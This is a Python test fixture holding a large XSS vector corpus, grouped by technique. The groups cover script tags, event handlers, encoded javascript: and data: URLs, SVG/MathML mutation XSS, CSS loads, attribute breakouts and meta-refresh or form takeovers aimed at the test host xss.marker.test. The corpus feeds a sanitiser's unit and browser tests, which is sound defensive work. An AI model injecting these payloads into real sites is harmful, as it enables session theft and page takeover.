"""The XSS corpus: every vector, if it ever ran, calls a marker the browser test watches.

Markers (the browser test installs all three before any page script runs):

- ``alert(1)`` (or ``confirm``/``prompt``) opens a dialog: ``page.on("dialog")`` catches it;
- ``__xss()`` records a hit in ``window.__xssHits``;
- any request to ``xss.marker.test`` (images, styles, frames, redirects, form targets) is
  caught by the request listener.

Vectors are grouped by technique (one comment per group). The unit tests of the sanitiser
(``tests/core/test_sanitize.py``) run the whole corpus through ``sanitize_html``; the browser
test (``tests/security/test_xss_browser.py``) stores it through every writable field and
renders every page that shows it.
"""

MARKER_HOST = "xss.marker.test"
MARKER_URL = f"http://{MARKER_HOST}/"

GROUPS: dict[str, list[str]] = {
    # Plain script elements, in every casing and with broken or nested tags.
    "script": [
        "<script>alert(1)</script>",
        "<SCRIPT>__xss()</SCRIPT>",
        "<sCrIpT>alert(1)</ScRiPt>",
        "<script src=http://xss.marker.test/s.js></script>",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/xss>__xss()</script>",
        "<script\x0c>alert(1)</script>",
        "<script >__xss()</script >",
        "<<script>alert(1);//<</script>",
        "<script>/*</script><script>*/__xss()</script>",
        "<script type=module>__xss()</script>",
        "<script>eval(atob('X194c3MoKQ=='))</script>",
        "</title><script>__xss()</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>__xss()</script>",
        "</script><script>alert(1)</script>",
        "<script>setTimeout('__xss()',0)</script>",
    ],
    # Event-handler attributes on ordinary and exotic elements.
    "event handlers": [
        "<img src=x onerror=alert(1)>",
        '<img src=x onerror="__xss()">',
        "<img src=x onerror=alert(1)//",
        "<IMG SRC=x OnErRoR=__xss()>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x:x onerror=__xss()>",
        '<body onload="alert(1)">',
        '<svg onload="__xss()">',
        "<svg/onload=alert(1)>",
        '<p onmouseover="__xss()">hover me</p>',
        '<div onpointerenter="alert(1)">x</div>',
        '<input onfocus="__xss()" autofocus>',
        '<details open ontoggle="alert(1)">x</details>',
        '<video><source onerror="__xss()"></video>',
        '<audio src=x onerror="alert(1)">',
        '<marquee onstart="__xss()">x</marquee>',
        '<select onfocus="alert(1)" autofocus></select>',
        '<textarea onfocus="__xss()" autofocus></textarea>',
        '<iframe onload="alert(1)"></iframe>',
        '<object data=x onerror="__xss()"></object>',
        '<img srcset="x 1x" onerror="alert(1)">',
        '<div contenteditable onfocus="__xss()" autofocus>x</div>',
        '<a onclick="alert(1)" href="#">click</a>',
        '<style onload="__xss()"></style>',
        '<link rel=stylesheet href=x onerror="alert(1)">',
        '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
        '<div hx-on:load="__xss()" hx-get="/" hx-trigger="load">htmx</div>',
        '<div hx-on::after-settle="alert(1)" hx-get="/" hx-trigger="load">htmx</div>',
        '<image src=x onerror="__xss()">',
        '<form><button onclick="alert(1)">go</button></form>',
    ],
    # javascript: URLs, plainly and with every trick browsers forgive.
    "javascript scheme": [
        '<a href="javascript:alert(1)">link</a>',
        '<a href="JaVaScRiPt:__xss()">link</a>',
        '<a href=" javascript:alert(1)">link</a>',
        '<a href="\tjavascript:__xss()">link</a>',
        '<a href="java\tscript:alert(1)">link</a>',
        '<a href="java\nscript:__xss()">link</a>',
        '<a href="java\x00script:alert(1)">link</a>',
        "<a href=javascript:__xss()>link</a>",
        "<a href=`javascript:alert(1)`>link</a>",
        '<IMG SRC="javascript:__xss();">',
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        '<a href="javascript://%0a__xss()">link</a>',
        '<a href="javascript:void(0)" onclick="alert(1)">link</a>',
        '<iframe src="javascript:__xss()"></iframe>',
        '<object data="javascript:alert(1)"></object>',
        '<embed src="javascript:__xss()">',
        '<form action="javascript:alert(1)"><button>send</button></form>',
        '<button formaction="javascript:__xss()">send</button>',
        '<isindex action="javascript:alert(1)" type=image>',
        '<math href="javascript:__xss()">click</math>',
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
        '<input type=image src="javascript:__xss()">',
    ],
    # Entity-encoded and split schemes.
    "encoded schemes": [
        '<a href="&#106;avascript:alert(1)">link</a>',
        '<a href="java&#x09;script:__xss()">link</a>',
        '<a href="jav&#x0A;ascript:alert(1)">link</a>',
        '<a href="jav&#x0D;ascript:__xss()">link</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">link</a>',
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058__xss()">link</a>',
        '<a href="javascript&colon;alert(1)">link</a>',
        '<a href="javascript&#58;__xss()">link</a>',
        '<a href="&Tab;javascript:alert(1)">link</a>',
        '<a href="java&NewLine;script:__xss()">link</a>',
        '<a href="&#x26;#106;avascript:alert(1)">link</a>',
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#95;&#95;&#120;&#115;&#115;&#40;&#41;>",
        '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">link</a>',
        '<a href="jav&#97;script:__xss()">link</a>',
    ],
    # data: and vbscript: URLs.
    "data and vbscript": [
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
        '<a href="data:text/html,<script>__xss()</script>">link</a>',
        '<iframe src="data:text/html,<script>parent.__xss()</script>"></iframe>',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<img src="data:image/svg+xml,<svg onload=__xss()>">',
        '<a href="vbscript:msgbox(1)" onclick="alert(1)">link</a>',
        '<a href="VBSCRIPT:__xss()">link</a>',
        '<a href="DaTa:text/html,<script>alert(1)</script>">link</a>',
        '<script src="data:text/javascript,__xss()"></script>',
    ],
    # SVG and MathML namespace confusion and mutation XSS.
    "svg math mutation": [
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,__xss() />",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
        '<svg><animate onbegin="__xss()" attributeName="x" dur="1s">',
        "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
        '<svg><animate attributeName=href values="javascript:__xss()" />'
        "<a><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><style>&lt;img src=x onerror=__xss()&gt;</style></svg>",
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=__xss()&gt;">',
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
        '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<noscript><style></noscript><img src=x onerror=__xss()>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>",
        "<math><mi><svg><mtext><style><img src=x onerror=alert(1)>",
        "<svg><desc><img src=x onerror=__xss()></desc></svg>",
        "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
        '<xmp><p title="</xmp><img src=x onerror=__xss()>">',
        '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
        '<iframe><p title="</iframe><img src=x onerror=__xss()>">',
        "<template><script>alert(1)</script></template>",
        "<textarea><script>__xss()</script></textarea>",
        "<select><option><script>alert(1)</script></option></select>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='__xss()'/></svg>#x\"/></svg>",
    ],
    # CSS: expression(), url(javascript:), @import, behaviours and resource loads.
    "css": [
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<div style="width: expression(__xss())">x</div>',
        '<p style="behavior: url(http://xss.marker.test/x.htc)">x</p>',
        "<style>@import 'http://xss.marker.test/i.css';</style>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<style>body{background:url(http://xss.marker.test/bg.png)}</style>",
        '<link rel="stylesheet" href="http://xss.marker.test/l.css">',
        '<div style="background-image:url(&quot;http://xss.marker.test/q.png&quot;)">x</div>',
        '<div style="x:\\65 xpression(alert(1))">x</div>',
        "<style>*{x:expression(__xss())}</style>",
        '<div style="-moz-binding:url(http://xss.marker.test/b.xml#x)">x</div>',
        '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</li></ul>',
    ],
    # Markup that is broken, unclosed or hidden in comments and CDATA.
    "broken markup": [
        "<img src=x onerror=__xss()",
        '<img """><SCRIPT>alert(1)</SCRIPT>">',
        "<!--<img src=x onerror=__xss()>-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=__xss()> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<? echo '<script>__xss()</script>'; ?>",
        "<a href='https://ok.example' title=\"x><img src=x onerror=alert(1)>\">x</a>",
        "<p><b><i><u><img src=x onerror=__xss()></p>",
        "<div <img src=x onerror=alert(1)>>",
        '<img src="x" alt=""" onerror=__xss() ">',
        "<<img src=x onerror=alert(1)>>",
        "<img\nsrc=x\nonerror=__xss()>",
        "<img src=x onerror\t=\talert(1)>",
        "<a href=https://ok.example/></a><script>__xss()</script>",
    ],
    # Breaking out of an attribute value, of a tag or of a JavaScript string.
    "attribute breakouts": [
        '" onmouseover="alert(1)" x="',
        "' onmouseover='__xss()' x='",
        '"><script>alert(1)</script>',
        "'><script>__xss()</script>",
        '" autofocus onfocus="alert(1)" x="',
        '" style="background:url(http://xss.marker.test/attr.png)" x="',
        '"/><img src=x onerror=__xss()>',
        "'/><img src=x onerror=alert(1)>",
        "</a><img src=x onerror=__xss()>",
        "`\"'><img src=x onerror=alert(1)>",
        "';__xss();//",
        '";alert(1);//',
        "\\';__xss();//",
        "</script><img src=x onerror=alert(1)>",
        '" href="javascript:__xss()',
        "javascript:alert(1)",
    ],
    # Strings shaped like template syntax: must never be evaluated, only shown.
    "template injection": [
        "{{ 7*7 }}<img src=x onerror=__xss()>",
        "{% debug %}<script>alert(1)</script>",
        "{{ request.user.password }}",
        "{% load core_tags %}{{ '<script>__xss()</script>'|safe }}",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "#{__xss()}",
        "<%= __xss() %>",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "[[${__xss()}]]",
    ],
    # Unicode tricks: full-width brackets, invisible and direction characters, overlong forms.
    "unicode": [
        "＜script＞alert(1)＜/script＞",
        "＜img src=x onerror=__xss()＞",
        "<scr\u200dipt>alert(1)</scr\u200dipt>",
        "<img src=x on\u200berror=__xss()>",
        "\u202e>tpircs/<)1(trela>tpircs<",
        '<a href="java\u200bscript:__xss()">link</a>',
        '<a href="\u2028javascript:alert(1)">link</a>',
        "%C0%BCscript%C0%BE__xss()%C0%BC/script%C0%BE",
        "\u00c0\u00bcscript\u00c0\u00bealert(1)\u00c0\u00bc/script\u00c0\u00be",
        "\ufe64script\ufe65__xss()\ufe64/script\ufe65",
        "<img src=x onerror=\\u0061lert(1)>",
        "\\u003cscript\\u003e__xss()\\u003c/script\\u003e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u2039script\u203a__xss()\u2039/script\u203a",
    ],
    # Frames, srcdoc, base, meta refresh, forms and other document-level takeovers.
    "document takeovers": [
        '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
        '<iframe src="http://xss.marker.test/frame"></iframe>',
        '<frameset onload="__xss()"><frame src=x></frameset>',
        '<base href="http://xss.marker.test/">',
        '<base href="javascript:alert(1)//">',
        '<meta http-equiv="refresh" content="0;url=http://xss.marker.test/refresh">',
        '<meta http-equiv="refresh" content="0;url=javascript:__xss()">',
        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
        '<form action="http://xss.marker.test/form" method=post><input name=x value=1>'
        "<button>ok</button></form>",
        '<form id=f></form><button form=f formaction="javascript:alert(1)">go</button>',
        '<object data="http://xss.marker.test/obj"></object>',
        '<embed src="http://xss.marker.test/embed">',
        '<img src="http://xss.marker.test/pixel.png">',
        '<video poster="http://xss.marker.test/poster.png"></video>',
        '<a href="https://ok.example" target="_blank" rel="opener">x</a><script>__xss()</script>',
        '<portal src="http://xss.marker.test/portal"></portal>',
        '<applet code="x" codebase="http://xss.marker.test/"></applet>',
    ],
}

VECTORS: list[str] = [vector for group in GROUPS.values() for vector in group]

# What can be stored: Django's forms refuse NUL characters (ProhibitNullCharactersValidator) and
# PostgreSQL text cannot hold them, so the NUL vector is stored without its NUL.
STORABLE: list[str] = [vector.replace("\x00", "") for vector in VECTORS]


def chunks(limit: int, vectors: list[str] | None = None) -> list[str]:
    """Pack the vectors into as few strings of at most ``limit`` characters as possible.

    A short field (a title of 200 characters) then carries every vector over a handful of
    objects instead of one object per vector. A vector longer than ``limit`` is cut.
    """
    packed, current = [], ""
    for vector in vectors if vectors is not None else STORABLE:
        vector = vector[:limit]
        if current and len(current) + 1 + len(vector) > limit:
            packed.append(current)
            current = ""
        current = f"{current} {vector}" if current else vector
    if current:
        packed.append(current)
    return packed


def long_text() -> str:
    """Every vector in one text, one per line (for text fields without a length limit)."""
    return "\n".join(STORABLE)
